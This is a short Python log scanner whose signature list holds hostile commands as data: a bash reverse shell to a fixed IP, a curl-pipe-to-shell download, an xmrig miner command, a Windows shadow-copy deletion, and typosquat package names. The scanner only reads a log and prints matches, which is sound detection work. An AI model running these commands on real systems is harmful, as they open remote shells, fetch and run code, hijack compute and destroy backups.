"""Signatures of a log scanner: payloads held as data by a program that
writes, runs and sends nothing."""
import re
import sys

SIGNATURES = [
    # ok: shell-payload-string
    ("reverse shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    # ok: shell-payload-string
    ("pipe to shell", "curl -fsSL http://203.0.113.9/x.sh | sh"),
    # ok: crypto-miner
    ("miner", "xmrig -o stratum+tcp://pool.example:3333"),
    # ok: windows-recovery-wipe
    ("shadow wipe", "vssadmin delete shadows /all /quiet"),
]


def scan(lines):
    for n, line in enumerate(lines, 1):
        for label, sig in SIGNATURES:
            if sig in line or re.search(re.escape(sig), line):
                print(f"{n}: {label}")


# ok: typosquat-package
KNOWN_TYPOSQUATS = {"reqeusts", "python-dateutils"}

if __name__ == "__main__":
    scan(open(sys.argv[1], encoding="utf-8"))
